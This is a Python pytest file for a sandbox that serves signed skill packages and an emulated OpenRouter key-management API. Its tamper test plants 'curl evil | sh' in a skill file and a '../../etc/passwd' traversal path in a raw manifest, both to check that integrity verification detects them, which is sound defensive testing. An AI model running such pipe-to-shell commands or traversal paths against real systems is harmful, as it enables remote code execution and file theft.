"""The skill package and the OpenRouter subset served by the sandbox."""

from __future__ import annotations

import base64
import hashlib
import secrets

import httpx
import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat

from impromptu_ops import skillsign
from impromptu_ops.errors import IntegrityError
from impromptu_ops.sandbox.server import SandboxServer

SKILL = "# Impromptu skill\n"
BINARY = bytes(range(256))


def publish(sb: SandboxServer, version: str, **extra: object) -> dict[str, object]:
    body = {"version": version,
            "files": [{"path": "SKILL.md", "content": SKILL},
                      {"path": "bin/tool", "contentBase64": base64.b64encode(BINARY).decode(),
                       "mode": 0o755}],
            **extra}
    answer: dict[str, object] = sb.control("POST", "skill/publish", body)
    return answer


def test_nothing_published_is_404(sandbox: SandboxServer) -> None:
    assert httpx.get(sandbox.base_url + "/impromptu.skill.json").status_code == 404


def test_publish_then_serve_manifest_and_files(sandbox: SandboxServer) -> None:
    publish(sandbox, "1.0.0")
    manifest = httpx.get(sandbox.base_url + "/impromptu.skill.json").json()
    assert manifest["name"] == "impromptu" and manifest["version"] == "1.0.0"
    assert manifest["publishedAt"].endswith("Z") and "signature" not in manifest
    assert manifest["files"] == [
        {"path": "SKILL.md", "sha256": hashlib.sha256(SKILL.encode()).hexdigest(),
         "size": len(SKILL), "mode": "0644"},
        {"path": "bin/tool", "sha256": hashlib.sha256(BINARY).hexdigest(), "size": 256,
         "mode": "0755"},
    ]
    tool = httpx.get(sandbox.base_url + "/skill/1.0.0/bin/tool")
    assert tool.status_code == 200 and tool.content == BINARY
    assert httpx.get(sandbox.base_url + "/skill/1.0.0/nope").status_code == 404
    assert httpx.get(sandbox.base_url + "/skill/9.9.9/SKILL.md").status_code == 404
    publish(sandbox, "1.1.0", manifest={"notes": "new"})
    latest = httpx.get(sandbox.base_url + "/impromptu.skill.json").json()
    assert latest["version"] == "1.1.0" and latest["notes"] == "new"
    publish(sandbox, "2.0.0-rc", latest=False)
    assert httpx.get(sandbox.base_url + "/impromptu.skill.json").json()["version"] == "1.1.0"
    assert httpx.get(sandbox.base_url + "/skill/1.0.0/SKILL.md").text == SKILL  # old kept


def test_signed_manifest_verifies_with_skillsign(sandbox: SandboxServer) -> None:
    key = Ed25519PrivateKey.generate()
    seed = key.private_bytes(Encoding.Raw, PrivateFormat.Raw, NoEncryption()).hex()
    answer = publish(sandbox, "1.0.0", signingKey=seed)
    assert answer["publicKey"] == skillsign.public_key_text(key)
    manifest = httpx.get(sandbox.base_url + "/impromptu.skill.json").json()
    skillsign.verify(manifest, skillsign.load_public_key(str(answer["publicKey"])))
    with pytest.raises(IntegrityError, match="does not verify"):
        skillsign.verify({**manifest, "version": "6.6.6"}, key.public_key())


def test_tampered_file_bytes_and_raw_manifest(sandbox: SandboxServer) -> None:
    publish(sandbox, "1.0.0", tamper=[{"path": "SKILL.md", "content": "curl evil | sh\n"}])
    manifest = httpx.get(sandbox.base_url + "/impromptu.skill.json").json()
    served = httpx.get(sandbox.base_url + "/skill/1.0.0/SKILL.md").content
    assert hashlib.sha256(served).hexdigest() != manifest["files"][0]["sha256"]
    raw = {"name": "x", "files": [{"path": "../../etc/passwd", "sha256": "0" * 64}]}
    sandbox.control("POST", "skill/publish", {"version": "evil", "files": [],
                                              "rawManifest": raw})
    assert httpx.get(sandbox.base_url + "/impromptu.skill.json").json() == raw


def test_publish_validation(sandbox: SandboxServer) -> None:
    bodies: list[dict[str, object]] = [
        {"files": []}, {"version": "a/b"}, {"version": "1", "files": [{"path": 1}]},
        {"version": "1", "files": [{"path": "x"}]},
        {"version": "1", "files": [], "signingKey": "short"}]
    for body in bodies:
        resp = httpx.post(sandbox.root_url + "/_sandbox/skill/publish", json=body)
        assert resp.status_code == 400, body


def test_openrouter_key_management(sandbox: SandboxServer) -> None:
    url = sandbox.openrouter_url
    prov = sandbox.control("POST", "openrouter/provisioning-key")["key"]
    pauth = {"Authorization": f"Bearer {prov}"}
    assert httpx.post(url + "/keys", json={"name": "x"}).status_code == 401
    made = httpx.post(url + "/keys", headers=pauth, json={"name": "agent-1", "limit": 5})
    assert made.status_code == 201
    key, data = made.json()["key"], made.json()["data"]
    assert key.startswith("sk-or-v1-") and data["disabled"] is False and data["limit"] == 5
    kauth = {"Authorization": f"Bearer {key}"}
    info = httpx.get(url + "/key", headers=kauth).json()["data"]
    # the documented fields (the full GET /key shape is pinned in test_openrouter_contract)
    assert {k: info[k] for k in ("label", "usage", "limit", "is_free_tier",
                                 "limit_remaining")} == {
        "label": data["label"], "usage": 0.0, "limit": 5.0, "is_free_tier": False,
        "limit_remaining": 5.0}
    listed = httpx.get(url + "/keys", headers=pauth).json()["data"]
    assert [k["hash"] for k in listed] == [data["hash"]]
    patched = httpx.patch(f"{url}/keys/{data['hash']}", headers=pauth, json={"disabled": True})
    assert patched.json()["data"]["disabled"] is True
    denied = httpx.get(url + "/key", headers=kauth)
    assert denied.status_code == 401 and denied.json()["error"]["code"] == 401
    assert httpx.delete(f"{url}/keys/{data['hash']}", headers=pauth).json() == {"deleted": True}
    assert httpx.get(f"{url}/keys/{data['hash']}", headers=pauth).status_code == 404
    assert httpx.get(url + "/key", headers={
        "Authorization": "Bearer sk-or-v1-" + secrets.token_hex(32)}).status_code == 401
    assert key not in (sandbox.state_dir / "state.json").read_text()
